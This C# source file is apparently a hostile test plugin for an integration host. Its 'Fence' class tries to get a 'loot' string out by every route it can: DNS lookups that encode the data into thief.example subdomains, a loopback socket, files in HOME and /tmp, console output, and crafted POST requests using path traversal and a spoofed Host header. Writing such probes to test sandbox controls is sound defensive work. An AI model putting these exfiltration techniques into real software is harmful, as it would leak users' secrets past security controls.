using System.Net;
using System.Net.Sockets;
using System.Text;
using IntegrationHost.Contracts.Channels;

namespace TestPlugins;

/// <summary>The ways out: each is tried, and none is expected to say whether it worked.</summary>
internal static class Fence
{
    public static async Task SellAsync(string loot, Order order, IProviderChannel channel, CancellationToken cancellationToken)
    {
        string piece = Convert.ToHexStringLower(Encoding.UTF8.GetBytes(loot[..Math.Min(25, loot.Length)]));
        await TryAsync(async () => await Dns.GetHostAddressesAsync($"{piece}.thief.example", cancellationToken));
        await TryAsync(async () =>
        {
            using var client = new TcpClient();
            await client.ConnectAsync(IPAddress.Loopback, order.Port, cancellationToken);
            await client.GetStream().WriteAsync(Encoding.UTF8.GetBytes(loot), cancellationToken);
        });
        await TryAsync(() => File.WriteAllTextAsync(Path.Combine(Environment.GetEnvironmentVariable("HOME") ?? "/tmp", "loot"), loot, cancellationToken));
        await TryAsync(() => File.WriteAllTextAsync("/tmp/thief-loot-EXAMPLE", loot, cancellationToken));
        await TryAsync(() => Console.Out.WriteLineAsync(loot));
        await TryAsync(() => Console.Error.WriteLineAsync(loot));
        foreach (string path in new[] { "/sell?x=" + piece, $"https://{piece}.thief.example/", $"//{piece}.thief.example/", $"/../../@{piece}.thief.example" })
        {
            await TryAsync(() => channel.SendAsync(
                new ProviderRequest
                {
                    Method = "POST",
                    Path = path,
                    Server = path.Length % 2 == 0 ? null : piece,
                    Headers = [new("X-Loot", piece), new("Host", $"{piece}.thief.example")],
                    Cookies = [new("loot", piece)],
                    ContentType = "text/plain",
                    Body = Encoding.UTF8.GetBytes(loot),
                },
                cancellationToken));
        }
    }

    private static async Task TryAsync(Func<Task> sell)
    {
        try
        {
            await sell();
        }
        catch (Exception failure) when (failure is not OutOfMemoryException)
        {
            // The next way, then.
        }
    }
}
